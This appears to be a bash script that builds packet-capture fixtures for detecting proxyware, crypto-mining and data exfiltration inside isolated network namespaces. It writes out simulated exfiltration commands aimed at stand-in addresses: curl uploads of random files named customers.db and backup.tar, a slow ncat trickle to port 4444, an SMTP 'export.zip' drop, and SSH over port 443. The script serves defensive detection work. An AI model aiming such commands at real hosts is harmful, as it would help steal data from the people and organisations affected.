#!/usr/bin/env bash
# Regenerate the proxyware (T1496.002) and egress / exfiltration (T1048) captures in pcaps/.
#
# Run as root:  pcaps/scripts/make_proxy_egress.sh [scenario ...]
# (no argument = every scenario; a scenario is the capture name without .pcap, e.g. proxy_stratum)
#
# Everything happens inside namespaces created here (prefix "sb": sbhome, sbinet, sbhome2); the fake
# internet owns 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24 with AnyIP local routes, so no
# packet can leave the machine. Each scenario has its own home source address 10.99.0.1XX:
#
#   proxy_dns_names      10.99.0.101   dig -> dnsmasq 192.0.2.53
#   proxy_tls_sni        10.99.0.102   curl -k --resolve -> openssl s_server 203.0.113.81-85:443, http 203.0.113.86:80
#   proxy_benign_tls     10.99.0.103   same, benign names -> 203.0.113.91-95:443
#   proxy_socks_relay    10.99.0.104   microsocks on 10.99.0.104:1080; clients 198.51.100.10-14; peers 203.0.113.101-120:80
#   proxy_http_connect   10.99.0.105   curl -p -x http://203.0.113.8:8888 (tinyproxy) -> 203.0.113.61-63:443
#   proxy_stratum        10.99.0.106   stratum JSON-RPC -> 203.0.113.33:3333, 198.51.100.33:8080, 203.0.113.34:443
#   egress_curl_upload   10.99.0.110   curl -T 30 MB -> 203.0.113.20:80 (PUT sink), MTU 9000, snaplen 96
#   egress_trickle       10.99.0.111   ~300 B/s for 90 s -> 203.0.113.30:4444, snaplen 96
#   egress_ftp_stor      10.99.0.112   curl -T 2 MB ftp:// -> pyftpdlib 203.0.113.21:21 (PASV), snaplen 200
#   egress_smtp          10.99.0.113   curl smtp:// 1 MB base64 attachment -> aiosmtpd 203.0.113.25:25, snaplen 200
#   egress_ssh_443       10.99.0.114   ssh -p 443 + 200 KB on stdin -> sshd 203.0.113.22:443, snaplen 200
#   egress_http_post     10.99.0.115   curl --data-binary 5 MB -> 203.0.113.23:80/upload, snaplen 200
#   benign_download      10.99.0.120   curl GET 30 MB <- 203.0.113.40:80, MTU 9000, snaplen 96
#   benign_small_upload  10.99.0.121   curl -T 100 KB -> 203.0.113.24:80, snaplen 200
#   benign_home_to_home  10.99.0.150 -> 10.99.0.151 (sbhome <-> sbhome2 veth), curl -T 20 MB, MTU 9000, snaplen 96
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=$(cd "$HERE/.." && pwd)
W=/tmp/sbwork
PY=/usr/bin/python3          # Debian python (pyftpdlib / aiosmtpd live there, not in pyenv)
# shellcheck source=netns.sh
source "$HERE/netns.sh"

[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
for t in tcpdump tshark dig dnsmasq openssl curl ncat microsocks tinyproxy sshd ssh ssh-keygen; do
  command -v "$t" >/dev/null || { echo "missing tool: $t" >&2; exit 1; }
done
$PY -c 'import pyftpdlib, aiosmtpd' || { echo "need python3-pyftpdlib python3-aiosmtpd" >&2; exit 1; }

BG_PIDS=()
# bg NS CMD...: start a daemon inside namespace NS, remember its PID (ip netns exec execs in place).
bg() { local ns=$1; shift; ip netns exec "$ns" "$@" >>"$W/daemons.log" 2>&1 & BG_PIDS+=($!); }
stop_bg() {
  local p
  for p in "${BG_PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
  for p in "${BG_PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
  BG_PIDS=()
}
in_home() { ip netns exec "$NS_HOME" "$@"; }
in_net() { ip netns exec "$NS_NET" "$@"; }
# wait_listen NS PORT: until something listens on TCP/UDP PORT in NS (no packets sent).
wait_listen() {
  local i
  for i in $(seq 100); do
    [ -n "$(ip netns exec "$1" ss -lntuH "sport = :$2" 2>/dev/null)" ] && return 0
    sleep 0.1
  done
  echo "nothing listens on port $2 in $1" >&2; return 1
}
net_lo_addr() { ip -n "$NS_NET" addr add "$1/32" dev lo 2>/dev/null || true; }
set_mtu() { ip -n "$NS_HOME" link set "$VH" mtu "$1"; ip -n "$NS_NET" link set "$VN" mtu "$1"; }
# cap FILE SNAPLEN HOSTADDR: capture only this scenario's host on the home veth.
cap() { rm -f "$OUT/$1"; capture_start "$OUT/$1" "$2" -Z root host "$3"; }

cleanup() {
  set +e
  stop_bg
  [ -n "${CAP_PID:-}" ] && kill -INT "$CAP_PID" 2>/dev/null
  for pid in $(ip netns pids sbhome2 2>/dev/null); do kill "$pid" 2>/dev/null; done
  ip netns del sbhome2 2>/dev/null
  netns_down
  [ -n "${SB_KEEP_WORK:-}" ] || rm -rf "$W"    # set SB_KEEP_WORK=1 to keep /tmp/sbwork (daemon logs)
}

# ---------------------------------------------------------------- work files and helper servers
prepare() {
  rm -rf "$W"; mkdir -p "$W/www" "$W/ftproot" "$W/ssh" "$W/tls"
  chmod 755 "$W"
  : >"$W/daemons.log"
  head -c 30000000 /dev/urandom >"$W/up30m.bin"
  head -c 30000000 /dev/urandom >"$W/www/big30m.bin"
  head -c 20000000 /dev/urandom >"$W/h2h20m.bin"
  head -c 5000000 /dev/urandom >"$W/post5m.bin"
  head -c 2000000 /dev/urandom >"$W/ftp2m.bin"
  head -c 200000 /dev/urandom >"$W/ssh200k.bin"
  head -c 100000 /dev/urandom >"$W/small100k.bin"
  for i in $(seq 1 20); do head -c $((40000 + i * 2000)) /dev/urandom >"$W/www/blob$i.bin"; done
  head -c 40000 /dev/urandom >"$W/relay_up.bin"
  echo '<html><body>ok</body></html>' >"$W/www/index.html"
  openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=localhost" \
    -keyout "$W/tls/key.pem" -out "$W/tls/cert.pem" >/dev/null 2>&1

  # HTTP PUT/POST sink: reads Content-Length bytes, discards them, answers with the count.
  cat >"$W/sink.py" <<'EOF'
import http.server, socketserver, sys
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def _sink(self):
        n = int(self.headers.get("Content-Length", 0)); left = n
        while left > 0:
            b = self.rfile.read(min(65536, left))
            if not b: break
            left -= len(b)
        body = ("received %d bytes\n" % (n - left)).encode()
        self.send_response(201 if self.command == "PUT" else 200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    do_PUT = _sink
    do_POST = _sink
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
S((sys.argv[1], int(sys.argv[2])), H).serve_forever()
EOF

  # Paced web server for the SOCKS relay peers: GET /NAME streams DIR/NAME at RATE bytes/s (so the
  # relayed sessions really last seconds on both legs), POST reads and discards the body.
  cat >"$W/paced.py" <<'EOF'
import http.server, os, socketserver, sys, time
DIR, RATE = sys.argv[3], int(sys.argv[4])
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"
    def do_GET(self):
        try: data = open(os.path.join(DIR, os.path.basename(self.path)), "rb").read()
        except OSError: self.send_error(404); return
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        for i in range(0, len(data), 4096):
            self.wfile.write(data[i:i + 4096]); self.wfile.flush(); time.sleep(4096 / RATE)
    def do_POST(self):
        left = int(self.headers.get("Content-Length", 0))
        while left > 0:
            b = self.rfile.read(min(65536, left))
            if not b: break
            left -= len(b)
        body = b"ok\n"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
S((sys.argv[1], int(sys.argv[2])), H).serve_forever()
EOF

  # Minimal Stratum (JSON-RPC over TCP, newline framed) pool.
  cat >"$W/stratum.py" <<'EOF'
import json, socketserver, sys, threading
class H(socketserver.StreamRequestHandler):
    def send(self, o): self.wfile.write((json.dumps(o) + "\n").encode()); self.wfile.flush()
    def handle(self):
        for line in self.rfile:
            try: msg = json.loads(line)
            except ValueError: break
            m, i = msg.get("method"), msg.get("id")
            if m == "mining.subscribe":
                self.send({"id": i, "result": [[["mining.set_difficulty", "b4b6693b72a50c7116db18d6497cac52"],
                           ["mining.notify", "ae6812eb4cd7735a302a8a9dd95cf71f"]], "08000002", 4], "error": None})
            elif m == "mining.authorize":
                self.send({"id": i, "result": True, "error": None})
                self.send({"id": None, "method": "mining.set_difficulty", "params": [16]})
                self.send({"id": None, "method": "mining.notify", "params": ["bf",
                    "4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000",
                    "01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20020862062f503253482f04b8864e5008",
                    "072f736c7573682f000000000100f2052a010000001976a914d23fcdf86f7e756a64a7a9688ef9903327048ed988ac00000000",
                    [], "00000002", "1c2ac4af", "504e86b9", True]})
            else:
                self.send({"id": i, "result": None, "error": [20, "Other/Unknown", None]})
class S(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True
srvs = [S(("0.0.0.0", int(p)), H) for p in sys.argv[1:]]
for s in srvs[1:]: threading.Thread(target=s.serve_forever, daemon=True).start()
srvs[0].serve_forever()
EOF
}

# ---------------------------------------------------------------- proxyware
proxy_dns_names() {
  local src=10.99.0.101 dns=192.0.2.53 n
  home_addr $src; net_lo_addr $dns
  bg "$NS_NET" dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts --bind-interfaces \
    --listen-address=$dns --user=root --pid-file= \
    --address=/#/203.0.113.80 --address=/#/2001:db8::1
  wait_listen "$NS_NET" 53
  cap proxy_dns_names.pcap 0 $src
  for n in honeygain.com dashboard.honeygain.com api.honeygain.com iproyal.com dashboard.iproyal.com \
           pawns.app api.pawns.app peer2profit.com packetstream.io proxy.packetstream.io \
           traffmonetizer.com api.traffmonetizer.com earnapp.com client.earnapp.com repocket.com \
           api.repocket.com bitping.com api.bitping.com mysterium.network discovery.mysterium.network \
           broker.mysterium.network; do
    in_home dig -b $src @$dns +tries=1 +time=2 "$n" A >/dev/null
  done
  for n in honeygain.com earnapp.com mysterium.network; do
    in_home dig -b $src @$dns +tries=1 +time=2 "$n" AAAA >/dev/null
  done
  capture_stop
  stop_bg
}

# tls_hits SRC "NAME IP" ...: one curl -k HTTPS request per name, SNI = NAME.
tls_hits() {
  local src=$1 pair; shift
  for pair in "$@"; do
    set -- $pair
    in_home curl -sS -k --max-time 10 --interface "$src" --resolve "$1:443:$2" -o /dev/null "https://$1/"
  done
}
start_tls_server() {
  bg "$NS_NET" openssl s_server -4 -accept 443 -cert "$W/tls/cert.pem" -key "$W/tls/key.pem" -www -quiet
  wait_listen "$NS_NET" 443
}

proxy_tls_sni() {
  local src=10.99.0.102
  home_addr $src
  start_tls_server
  bg "$NS_NET" $PY -m http.server --bind 0.0.0.0 --directory "$W/www" 80
  wait_listen "$NS_NET" 80
  cap proxy_tls_sni.pcap 0 $src
  tls_hits $src "honeygain.com 203.0.113.81" "api.pawns.app 203.0.113.82" "traffmonetizer.com 203.0.113.83" \
    "earnapp.com 203.0.113.84" "mysterium.network 203.0.113.85"
  in_home curl -sS --max-time 10 --interface $src --resolve packetstream.io:80:203.0.113.86 \
    -o /dev/null http://packetstream.io/
  capture_stop
  stop_bg
}

proxy_benign_tls() {
  local src=10.99.0.103
  home_addr $src
  start_tls_server
  cap proxy_benign_tls.pcap 0 $src
  tls_hits $src "www.example.com 203.0.113.91" "nothoneygain.com 203.0.113.92" \
    "honeygain.com.evil.net 203.0.113.93" "mysteriumfans.org 203.0.113.94" "earnappreviews.net 203.0.113.95"
  capture_stop
  stop_bg
}

# A home host runs a SOCKS5 proxy; clients on the internet relay through it to ~20 web servers.
proxy_socks_relay() {
  local src=10.99.0.104 i c peer pids=()
  home_addr $src
  bg "$NS_NET" $PY "$W/paced.py" 0.0.0.0 80 "$W/www" 12000
  bg "$NS_HOME" microsocks -i $src -p 1080 -b $src
  wait_listen "$NS_NET" 80; wait_listen "$NS_HOME" 1080
  cap proxy_socks_relay.pcap 128 $src
  # 20 sessions, one every 2.5 s, 5 client addresses, 20 distinct peers; every 5th one is an upload.
  for i in $(seq 1 20); do
    c=198.51.100.$((10 + (i - 1) % 5)); peer=203.0.113.$((100 + i))
    if [ $((i % 5)) = 0 ]; then
      ip netns exec "$NS_NET" curl -sS --max-time 30 --interface $c --socks5 $src:1080 --limit-rate 10k \
        --data-binary @"$W/relay_up.bin" -o /dev/null "http://$peer/submit" &
    else
      ip netns exec "$NS_NET" curl -sS --max-time 30 --interface $c --socks5 $src:1080 \
        -o /dev/null "http://$peer/blob$i.bin" &
    fi
    pids+=($!)
    sleep 2.5
  done
  for i in "${pids[@]}"; do wait "$i" || echo "socks client $i failed" >&2; done
  capture_stop
  stop_bg
}

proxy_http_connect() {
  local src=10.99.0.105 proxy=203.0.113.8 t
  home_addr $src; net_lo_addr $proxy
  : >"$W/tinyproxy.log"; chmod 666 "$W/tinyproxy.log"
  cat >"$W/tinyproxy.conf" <<EOF
User nobody
Group nogroup
Port 8888
Listen $proxy
Timeout 60
MaxClients 20
Allow 10.99.0.0/24
ConnectPort 443
LogLevel Info
LogFile "$W/tinyproxy.log"
EOF
  start_tls_server
  bg "$NS_NET" $PY -m http.server --bind 0.0.0.0 --directory "$W/www" 80
  bg "$NS_NET" tinyproxy -d -c "$W/tinyproxy.conf"
  wait_listen "$NS_NET" 8888; wait_listen "$NS_NET" 80
  cap proxy_http_connect.pcap 0 $src
  for t in 203.0.113.61 203.0.113.62 203.0.113.63; do
    in_home curl -sS -k --max-time 10 --interface $src -p -x http://$proxy:8888 -o /dev/null "https://$t/"
  done
  # one plain proxied GET (absolute URI) through the same proxy
  in_home curl -sS --max-time 10 --interface $src -x http://$proxy:8888 -o /dev/null http://203.0.113.64/
  capture_stop
  stop_bg
}

proxy_stratum() {
  local src=10.99.0.106 ep
  home_addr $src
  bg "$NS_NET" $PY "$W/stratum.py" 3333 8080 443
  wait_listen "$NS_NET" 3333; wait_listen "$NS_NET" 8080; wait_listen "$NS_NET" 443
  cap proxy_stratum.pcap 0 $src
  for ep in "203.0.113.33 3333" "198.51.100.33 8080" "203.0.113.34 443"; do
    set -- $ep
    { printf '%s\n' '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}'
      sleep 0.5
      printf '%s\n' '{"id":2,"method":"mining.authorize","params":["wallet.worker","x"]}'
      sleep 1.5
    } | in_home ncat -s $src "$1" "$2" >/dev/null
  done
  capture_stop
  stop_bg
}

# ---------------------------------------------------------------- egress
start_sink() { bg "$NS_NET" $PY "$W/sink.py" 0.0.0.0 80; wait_listen "$NS_NET" 80; }

egress_curl_upload() {
  local src=10.99.0.110
  home_addr $src; set_mtu 9000; start_sink
  cap egress_curl_upload.pcap 96 $src
  in_home curl -sS --max-time 120 --interface $src --limit-rate 3M -T "$W/up30m.bin" -o /dev/null http://203.0.113.20/backup.tar
  capture_stop
  stop_bg; set_mtu 1500
}

egress_trickle() {
  local src=10.99.0.111 i
  home_addr $src
  bg "$NS_NET" ncat -l -k --recv-only 0.0.0.0 4444 -o /dev/null
  wait_listen "$NS_NET" 4444
  cap egress_trickle.pcap 96 $src
  for i in $(seq 1 90); do
    printf '%s\n' "$(head -c $((200 + RANDOM % 150)) /dev/urandom | base64 -w 0)"   # one write per second
    sleep 1
  done | in_home ncat --send-only -s $src 203.0.113.30 4444
  capture_stop
  stop_bg
}

egress_ftp_stor() {
  local src=10.99.0.112 ftp=203.0.113.21
  home_addr $src; net_lo_addr $ftp
  rm -rf "$W/ftproot"; mkdir -p "$W/ftproot"
  bg "$NS_NET" $PY -m pyftpdlib -i $ftp -p 21 -w -d "$W/ftproot" -u user -P pass -r 60000-60100
  wait_listen "$NS_NET" 21
  cap egress_ftp_stor.pcap 200 $src
  in_home curl -sS --max-time 60 --interface $src --limit-rate 1M --ftp-pasv --disable-epsv -T "$W/ftp2m.bin" \
    "ftp://user:pass@$ftp/customers.db"
  capture_stop
  stop_bg
  cmp "$W/ftp2m.bin" "$W/ftproot/customers.db"
}

egress_smtp() {
  local src=10.99.0.113 smtp=203.0.113.25
  home_addr $src; net_lo_addr $smtp
  { printf 'From: alice <alice@home.example>\r\nTo: drop <drop@mail.example.net>\r\n'
    printf 'Subject: quarterly numbers\r\nDate: Mon, 03 Mar 2025 10:00:00 +0000\r\n'
    printf 'Message-ID: <sb-egress-1@home.example>\r\nMIME-Version: 1.0\r\n'
    printf 'Content-Type: multipart/mixed; boundary="XYZBOUNDARY"\r\n\r\n'
    printf -- '--XYZBOUNDARY\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nsee attached\r\n\r\n'
    printf -- '--XYZBOUNDARY\r\nContent-Type: application/octet-stream; name="export.zip"\r\n'
    printf 'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="export.zip"\r\n\r\n'
    head -c 1000000 /dev/urandom | base64 -w 76 | sed 's/$/\r/'
    printf -- '\r\n--XYZBOUNDARY--\r\n'
  } >"$W/msg.eml"
  bg "$NS_NET" $PY -m aiosmtpd -n -l $smtp:25 -c aiosmtpd.handlers.Sink
  wait_listen "$NS_NET" 25
  cap egress_smtp.pcap 200 $src
  in_home curl -sS --max-time 60 --interface $src --limit-rate 1M "smtp://$smtp:25/home.example" \
    --mail-from alice@home.example --mail-rcpt drop@mail.example.net --upload-file "$W/msg.eml"
  capture_stop
  stop_bg
}

egress_ssh_443() {
  local src=10.99.0.114 host=203.0.113.22
  home_addr $src; net_lo_addr $host
  mkdir -p /run/sshd
  rm -f "$W/ssh/"*
  ssh-keygen -q -t ed25519 -N '' -f "$W/ssh/host_ed25519"
  ssh-keygen -q -t ed25519 -N '' -f "$W/ssh/client_ed25519"
  cp "$W/ssh/client_ed25519.pub" "$W/ssh/authorized_keys"
  cat >"$W/ssh/sshd_config" <<EOF
Port 443
ListenAddress $host
HostKey $W/ssh/host_ed25519
PidFile $W/ssh/sshd.pid
PermitRootLogin prohibit-password
PubkeyAuthentication yes
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
AuthorizedKeysFile $W/ssh/authorized_keys
EOF
  bg "$NS_NET" /usr/sbin/sshd -D -e -f "$W/ssh/sshd_config"
  wait_listen "$NS_NET" 443
  cap egress_ssh_443.pcap 200 $src
  in_home ssh -i "$W/ssh/client_ed25519" -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o BindAddress=$src -p 443 root@$host \
    'id; uname -a; wc -c > /dev/null' <"$W/ssh200k.bin" >/dev/null
  capture_stop
  stop_bg
}

egress_http_post() {
  local src=10.99.0.115
  home_addr $src; start_sink
  cap egress_http_post.pcap 200 $src
  in_home curl -sS --max-time 60 --interface $src --limit-rate 2M --data-binary @"$W/post5m.bin" \
    -H 'Content-Type: application/octet-stream' -o /dev/null http://203.0.113.23/upload
  capture_stop
  stop_bg
}

# ---------------------------------------------------------------- benign
benign_download() {
  local src=10.99.0.120
  home_addr $src; set_mtu 9000
  bg "$NS_NET" $PY -m http.server --bind 0.0.0.0 --directory "$W/www" 80
  wait_listen "$NS_NET" 80
  cap benign_download.pcap 96 $src
  in_home curl -sS --max-time 120 --interface $src --limit-rate 6M -o /dev/null http://203.0.113.40/big30m.bin
  capture_stop
  stop_bg; set_mtu 1500
}

benign_small_upload() {
  local src=10.99.0.121
  home_addr $src; start_sink
  cap benign_small_upload.pcap 200 $src
  in_home curl -sS --max-time 30 --interface $src -T "$W/small100k.bin" -o /dev/null http://203.0.113.24/photo.jpg
  capture_stop
  stop_bg
}

# Two home hosts: 10.99.0.150 in sbhome, 10.99.0.151 in sbhome2, joined by their own veth (/32 routes).
benign_home_to_home() {
  local a=10.99.0.150 b=10.99.0.151 f=benign_home_to_home.pcap
  ip netns del sbhome2 2>/dev/null || true
  ip netns add sbhome2
  ip link add sbh2a type veth peer name sbh2b
  ip link set sbh2a netns "$NS_HOME"; ip link set sbh2b netns sbhome2
  ip -n sbhome2 link set lo up
  ip -n "$NS_HOME" addr add $a/32 dev sbh2a
  ip -n sbhome2 addr add $b/32 dev sbh2b
  ip -n "$NS_HOME" link set sbh2a mtu 9000 up
  ip -n sbhome2 link set sbh2b mtu 9000 up
  ip -n "$NS_HOME" route add $b/32 dev sbh2a src $a
  ip -n sbhome2 route add $a/32 dev sbh2b src $b
  in_home ethtool -K sbh2a tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  ip netns exec sbhome2 ethtool -K sbh2b tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  bg sbhome2 $PY "$W/sink.py" $b 80
  wait_listen sbhome2 80
  rm -f "$OUT/$f"
  # started directly (not via a shell function) so that CAP_PID is tcpdump itself for capture_stop
  ip netns exec "$NS_HOME" tcpdump -i sbh2a -w "$OUT/$f" -U -s 96 -Z root host $a >/dev/null 2>&1 &
  CAP_PID=$!
  sleep 1
  in_home curl -sS --max-time 120 --interface $a --limit-rate 10M -T "$W/h2h20m.bin" -o /dev/null http://$b/share/video.mkv
  capture_stop
  stop_bg
  ip netns del sbhome2
}

ALL=(proxy_dns_names proxy_tls_sni proxy_benign_tls proxy_socks_relay proxy_http_connect proxy_stratum
     egress_curl_upload egress_trickle egress_ftp_stor egress_smtp egress_ssh_443 egress_http_post
     benign_download benign_small_upload benign_home_to_home)

main() {
  local s list=("$@")
  [ ${#list[@]} -gt 0 ] || list=("${ALL[@]}")
  prepare
  netns_up sb
  trap cleanup EXIT
  for s in "${list[@]}"; do
    echo "== $s"
    "$s"
    ls -l "$OUT/$s.pcap"
  done
}
main "$@"
